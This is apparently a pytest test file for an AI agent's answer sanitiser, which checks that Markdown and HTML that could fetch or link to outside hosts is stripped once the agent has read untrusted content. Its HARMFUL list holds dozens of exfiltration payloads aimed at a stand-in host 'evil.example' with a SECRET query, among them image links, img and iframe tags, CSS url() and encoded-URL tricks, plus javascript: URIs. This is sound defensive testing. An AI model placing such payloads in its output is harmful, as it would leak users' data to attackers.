"""The final answer, shown by a real parser of Markdown."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from agent.untrusted.answer import safe_answer, safe_values
from agent.untrusted.taint import TaintState
from tests.agent.approval.offered import FETCH
from tests.agent.injection.showing import loaded_by_showing, reached_by_showing

TASK = "Summarise https://named.example/start for me, and see docs.example"
SEEN = "https://seen.example/a?b=c"


def tainted() -> TaintState:
    state = TaintState(TASK, "0badcafe")
    state.note(FETCH, f"Rain. More at {SEEN} .")
    return state


HARMLESS = [
    "Plain *text* with `code`, 1 < 2 and a list[int].",
    "See [the start](https://named.example/start) and https://docs.example/other.",
    f"See [more]({SEEN}) or <{SEEN}>.",
    "A [file](docs/a.md), a [place](#below) and ![a chart](chart.png).",
    "![logo](https://named.example/logo.png)",
    "[r]: https://named.example/start\n\nSee [this][r].",
]


@pytest.mark.parametrize("text", HARMLESS)
def test_what_carries_nothing_stays_as_it_is(text: str) -> None:
    assert safe_answer(text, tainted()) == text


EVIL = "https://evil.example/?q=SECRET"
HARMFUL = [
    f"![x]({EVIL})",
    f"![x](<{EVIL}>)",
    f'![x]({EVIL} "a title")',
    f"![x]({EVIL} 'a (title)')",
    f"![x\n\n]({EVIL})",
    f"![a [b] c]({EVIL})",
    f"![a \\] c]({EVIL})",
    f"![[[[x]]]]({EVIL})",
    "![x](//evil.example/SECRET)",
    "![x](/\\evil.example/SECRET)",
    "![x](\\\\evil.example\\SECRET)",
    "![x](HTTPS://EVIL.example/SECRET)",
    "![x](&#104;ttps://evil.example/SECRET)",
    "![x](https&colon;//evil.example/SECRET)",
    "![x](https://named.example@evil.example/SECRET)",
    "![x](https://named.example.evil.example/SECRET)",
    "![x](https://named.example/p.png?q=SECRET)",
    f"![x][r]\n\n[r]: {EVIL}",
    f"![r]\n\n[r]: {EVIL}",
    f"![r][]\n\n[r]:\n  <{EVIL}> 'title'",
    f"> ![r]\n\n> [r]: {EVIL}",
    f"[![x]({EVIL})](https://named.example/start)",
    f"- ![x]({EVIL})",
    f"| a |\n|---|\n| ![x]({EVIL}) |",
    f"!\u200b[x]({EVIL})",
    f"<img src='{EVIL}'>",
    f"<img\nsrc={EVIL}>",
    f"<IMG/SRC={EVIL}>",
    f"<b style='background:url({EVIL})'>x</b>",
    f"<style>@import '{EVIL}'</style>",
    f"<svg><image href='{EVIL}'/></svg>",
    f"<a href='{EVIL}'>x</a>",
    f"<!-- --><iframe src={EVIL}></iframe>",
    f"[x]({EVIL})",
    f"[x](<{EVIL}>)",
    f"[x]({EVIL} 'a (title)')",
    f"[x][r]\n\n[r]: {EVIL}",
    f"[x]\n\n[x]: {EVIL}",
    f"<{EVIL}>",
    f"Go to {EVIL}.",
    f"`x` {EVIL} `y`",
    "Go to www.evil.example/SECRET.",
    f"[x]({SEEN}&more=SECRET)",
]


@pytest.mark.parametrize("text", HARMFUL)
def test_nothing_that_the_model_made_is_fetched_or_can_be_clicked(text: str) -> None:
    """T-36."""
    assert reached_by_showing(text)
    shown = reached_by_showing(safe_answer(text, tainted()))
    assert shown <= {"https://named.example/start"}


LOADED = [text for text in HARMFUL if loaded_by_showing(text)]


@pytest.mark.parametrize("text", LOADED)
def test_images_and_elements_go_even_where_nothing_of_others_was_read(text: str) -> None:
    clean = TaintState(TASK, "0badcafe")
    shown = loaded_by_showing(safe_answer(text, clean))
    assert shown <= {"https://named.example/p.png?q=SECRET"}  # a host that the person named


@pytest.mark.parametrize("to", ["data:image/svg+xml;base64,PHN2Zz4=", "javascript:alert(1)"])
def test_an_address_that_is_no_place_is_not_left_to_the_program_that_shows_it(to: str) -> None:
    for text in (f"![x]({to})", f"[x]({to})", f"[x]: {to}"):
        assert f"({to})" not in safe_answer(text, tainted())
        assert f": {to}" not in safe_answer(text, tainted())


@pytest.mark.parametrize("text", ["Go to &#104;ttps://evil.example", "www&period;evil.example/x"])
def test_an_address_is_not_made_of_entities(text: str) -> None:
    assert reached_by_showing(safe_answer(text, tainted())) == set()


def test_links_stay_where_nothing_of_others_was_read() -> None:
    clean = TaintState(TASK, "0badcafe")
    assert safe_answer(f"[x]({EVIL}) {EVIL}", clean) == f"[x]({EVIL}) {EVIL}"


def test_a_structured_answer_keeps_its_addresses_and_loses_its_images() -> None:
    value = safe_values({"url": EVIL, "report": [f"See ![x]({EVIL})", 3, None]}, tainted())
    assert isinstance(value, dict)
    assert value["url"] == EVIL
    assert reached_by_showing(str(value["report"])) == set()


PARTS = (
    "![",
    "]",
    "(",
    ")",
    EVIL,
    "<",
    ">",
    "\n",
    " ",
    "[r]: ",
    "[r]",
    "`",
    "\\",
    '"t"',
    "img src=",
)


@given(st.lists(st.sampled_from(PARTS), max_size=12).map("".join))
def test_no_mixture_of_pieces_is_fetched(text: str) -> None:
    assert reached_by_showing(safe_answer(text, tainted())) == set()
